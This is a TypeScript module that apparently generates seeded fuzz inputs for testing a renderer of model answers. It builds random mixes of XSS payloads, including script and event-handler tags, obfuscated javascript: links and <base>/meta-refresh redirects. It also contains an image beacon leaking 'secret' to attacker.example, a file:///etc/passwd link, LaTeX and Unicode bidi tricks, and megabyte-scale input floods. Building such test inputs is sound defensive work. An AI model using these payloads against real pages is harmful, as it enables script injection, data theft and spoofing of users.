// Answers that mean harm, made from a seed: scripts, pictures, styles, links of every scheme, formulas, turned directions, lines
// without end and marks without partners, mixed and cut at random.

const kAttacker = 'https://attacker.example';
const kRun = 'window.hacked=1';

const kPieces: readonly string[] = [
  `<script>${kRun}</script>`, `<script src="${kAttacker}/x.js"></script>`, `<img src=x onerror="${kRun}">`, `<svg onload="${kRun}"><script>${kRun}</script></svg>`,
  `<svg><foreignObject><body onload=${kRun}></svg>`, `<math><mtext></mtext><img src=x onerror=${kRun}></math>`, `<iframe srcdoc="<script>parent.${kRun}</script>"></iframe>`,
  `<iframe src="${kAttacker}"></iframe>`, `<style>*{display:none}@import url(${kAttacker}/x.css)</style>`, `<link rel=stylesheet href="${kAttacker}/x.css">`,
  `<base href="${kAttacker}/">`, `<meta http-equiv=refresh content="0;url=${kAttacker}">`, `<form action="${kAttacker}"><button>Send</button></form>`,
  `<a href="javascript:${kRun}">x</a>`, `<object data="${kAttacker}"></object>`, `<video src="${kAttacker}/v" autoplay onplay=${kRun}>`, `<div style="position:fixed;inset:0">over</div>`,
  `[x](javascript:${kRun})`, `[x](JaVaScRiPt:${kRun})`, `[x](&#106;avascript:${kRun})`, `[x](java&Tab;script:${kRun})`, `[x](data:text/html,<script>${kRun}</script>)`,
  `[x](vbscript:${kRun})`, `[x](blob:${kAttacker}/1)`, '[x](file:///etc/passwd)', '[x](//attacker.example)', `<javascript:${kRun}>`, `[r]: javascript:${kRun}\n[r]`,
  `![leak](${kAttacker}/?q=secret)`, '![x](data:image/svg+xml,<svg/onload=alert(1)>)', `[![x](${kAttacker}/a.png)](javascript:${kRun})`, `![a][p]\n\n[p]: ${kAttacker}/p.png`,
  `\`\`\`html"><script>${kRun}</script>\n<b>\n\`\`\``, `\`\`\`${'x'.repeat(300)}`, `\`<img src=x onerror=${kRun}>\``, `~~~\n<script>${kRun}</script>`, `| <img src=x onerror=${kRun}> |\n|---|\n| <b> |`,
  `$\\href{javascript:${kRun}}{x}$`, `$$\\url{javascript:${kRun}}$$`, `$\\includegraphics{${kAttacker}/x.png}$`, `$\\htmlStyle{position:fixed}{x}$`, '$\\def\\a{\\a\\a}\\a$',
  `$$${'{'.repeat(500)}$$`, `$$${'\\frac{1}{'.repeat(120)}$$`, `\\[\\rule{9999em}{9999em}\\]`, '$\\text{<script>}$',
  '\u202Egnp.exe\u202C', '\u2066\u2067\u2068 hidden \u2069', '`if (user\u202E\u2066// admin\u2069 \u2066)`', '\u200F\u200E\u061C', 'A\u0300'.repeat(200), '\uFEFF\u0000\uD800x', '&lt;script&gt;', '<!--', '<![CDATA[', '<?xml', ']]>',
  '**', '__', '~~', '```', '[', '![', '](', '<', '$$', '\\(', '|', '> '.repeat(60), '- '.repeat(40), '#'.repeat(9), '* * *', '1. '.repeat(30), '\\'.repeat(50), '\n\n', '\n', '\t',
];

const kFloods: readonly string[] = [
  'x'.repeat(1_000_000), '['.repeat(20_000), '*a '.repeat(15_000), '`'.repeat(5000) + ' ' + '`'.repeat(4999), '$a '.repeat(10_000), '\\('.repeat(15_000), '$$'.repeat(15_001),
  '| a '.repeat(4000) + '\n' + '|---'.repeat(4000), '<a '.repeat(20_000), 'http://a.b/ '.repeat(5000), '&amp;'.repeat(20_000), '\u202E'.repeat(20_000), '![]('.repeat(10_000), '> '.repeat(20_000),
];

export function hostileAnswers(count: number, seed: number): string[] {
  const next = generator(seed);
  const pick = <T>(from: readonly T[]): T => from[Math.floor(next() * from.length)]!;
  return Array.from({ length: count }, (_, i) => {
    if (i % 20 === 19) return pick(kFloods);
    const pieces = Array.from({ length: 1 + Math.floor(next() * 12) }, () => pick(kPieces) + pick(['', ' ', '\n', '\n\n', ' word ']));
    const whole = pieces.join('');
    return next() < 0.3 ? whole.slice(0, Math.ceil(next() * whole.length)) : whole;
  });
}

// Mulberry32: the same numbers on every machine.
function generator(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}
